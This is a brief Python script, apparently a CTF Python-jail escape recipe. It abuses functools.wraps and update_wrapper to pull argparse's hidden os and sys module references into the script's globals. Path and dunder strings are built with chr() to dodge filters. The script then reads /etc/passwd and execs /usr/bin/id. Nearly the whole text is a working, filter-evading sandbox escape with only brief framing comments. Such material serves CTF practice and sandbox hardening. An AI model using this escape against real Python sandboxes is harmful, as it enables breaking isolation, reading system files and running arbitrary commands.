# source: CTF pyjail "__globals__ via functools.update_wrapper(updated=('__globals__',))"; monkeypatching a module global that a library function looks up at call time
# family: assignment to an allowed module's attribute (functools.partial = f): functools.wraps then hands f the real update_wrapper; update_wrapper(updated=[runtime dunder]) merges argparse's module globals (_os, _sys) into the script's
# goal: reach module os (prints <module 'os'>, /etc/passwd via os.open/os.read, runs /usr/bin/id via os.execl)
import argparse
import functools

D = chr(95) * 2
grabbed = []


def grab(fn, **kw):
    grabbed.append(fn)
    return lambda f: f


fh = argparse.ArgumentParser.format_help
orig = functools.partial
functools.partial = grab


@functools.wraps(fh)
def helper():
    return 0


functools.partial = orig
uw = grabbed[0]
uw(helper, fh, (), (D + "globals" + D,))


def run():
    print(_os, _sys, flush=True)
    fd = _os.open(chr(47) + "etc" + chr(47) + "passwd", 0)
    print(_os.read(fd, 300).decode(), flush=True)
    _os.execl(chr(47) + "usr" + chr(47) + "bin" + chr(47) + "id", "id")


run()
